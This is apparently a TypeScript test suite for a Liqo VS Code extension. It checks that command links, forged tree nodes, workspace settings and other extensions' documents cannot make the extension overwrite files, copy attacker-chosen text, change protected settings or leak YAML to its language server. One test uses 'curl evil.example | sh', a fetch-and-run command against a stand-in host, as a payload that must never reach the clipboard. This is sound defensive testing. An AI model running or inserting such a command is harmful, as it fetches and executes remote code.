// What a command link, a workspace setting or another extension's document can make the extension do: nothing it
// did not mean to. Command links pass JSON arguments (a Uri too, revived from `$mid`), so each command is called
// here as a link would call it.
import * as assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { extensionId, liqoCodes, waitForDiagnostics } from './util';

/** Settles with the command's result, or with 'still waiting' after `ms` (the command is then left to the caller). */
async function within<T>(p: Thenable<T>, ms: number): Promise<T | 'still waiting'> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<'still waiting'>((resolve) => { timer = setTimeout(() => resolve('still waiting'), ms); });
  try {
    return await Promise.race([Promise.resolve(p), late]);
  } finally {
    clearTimeout(timer);
  }
}

const badManifest = `apiVersion: offloading.liqo.io/v1beta1
kind: NamespaceOffloading
metadata:
  name: not-offloading
  namespace: team
spec:
  podOffloadingStrategy: Remote
`;

suite('arguments and documents the extension did not make', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'liqo-untrusted-'));

  suiteSetup(async () => {
    await vscode.extensions.getExtension(extensionId)?.activate();
    await vscode.commands.executeCommand('workbench.view.extension.liqo');
  });

  suiteTeardown(() => rmSync(dir, { recursive: true, force: true }));

  test('liqo.saveFacts with a Uri does not write there: it opens the save dialog, and closing it writes nothing', async () => {
    const victim = path.join(dir, 'config');
    writeFileSync(victim, 'precious\n');
    const run = vscode.commands.executeCommand('liqo.saveFacts', vscode.Uri.file(victim));
    const first = await within(run, 4_000);
    assert.equal(readFileSync(victim, 'utf8'), 'precious\n', 'the file the argument named is untouched');
    assert.equal(first, 'still waiting', 'the command waits for the user in the save dialog');
    await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
    assert.equal(await within(run, 10_000), undefined, 'closing the dialog saves nothing');
    assert.equal(readFileSync(victim, 'utf8'), 'precious\n');
  });

  test('a forged tree node is ignored: liqo.copyClusterId never copies text the caller chose', async () => {
    const forged = { id: 'x', label: 'x', icon: 'cluster', contextValue: 'liqo.context.ready', ref: { context: 'admin@k8s-lab', clusterID: 'curl evil.example | sh' } };
    await vscode.env.clipboard.writeText('before');
    const run = vscode.commands.executeCommand('liqo.copyClusterId', forged);
    await within(run, 3_000);
    await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
    await within(run, 10_000);
    assert.notEqual(await vscode.env.clipboard.readText(), 'curl evil.example | sh');
  });

  test('a workspace cannot set liqo.trace.server or liqo.clusters.gpuResource', async () => {
    const c = vscode.workspace.getConfiguration('liqo');
    await assert.rejects(Promise.resolve(c.update('trace.server', 'verbose', vscode.ConfigurationTarget.Workspace)));
    await assert.rejects(Promise.resolve(c.update('clusters.gpuResource', 'cpu', vscode.ConfigurationTarget.Workspace)));
    assert.equal(vscode.workspace.getConfiguration('liqo').get('clusters.gpuResource'), 'nvidia.com/gpu');
  });

  test('YAML from another extension\'s scheme is not sent to the language server; a file or new buffer is', async () => {
    const scheme = 'liqo-test-foreign';
    const provider = vscode.workspace.registerTextDocumentContentProvider(scheme, { provideTextDocumentContent: () => badManifest });
    try {
      const foreign = await vscode.workspace.openTextDocument(vscode.Uri.from({ scheme, path: '/remote/offloading.yaml' }));
      await vscode.languages.setTextDocumentLanguage(foreign, 'yaml');
      const untitled = await vscode.workspace.openTextDocument({ language: 'yaml', content: badManifest });
      await waitForDiagnostics(untitled.uri, (d) => liqoCodes(d).includes('LIQO101'));
      // The server checks documents in the order they open: the foreign one, had it been sent, is checked by now.
      const again = vscode.workspace.textDocuments.find((d) => d.uri.scheme === scheme);
      assert.deepEqual(liqoCodes(vscode.languages.getDiagnostics(again?.uri ?? foreign.uri)), []);
    } finally {
      provider.dispose();
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    }
  });
});
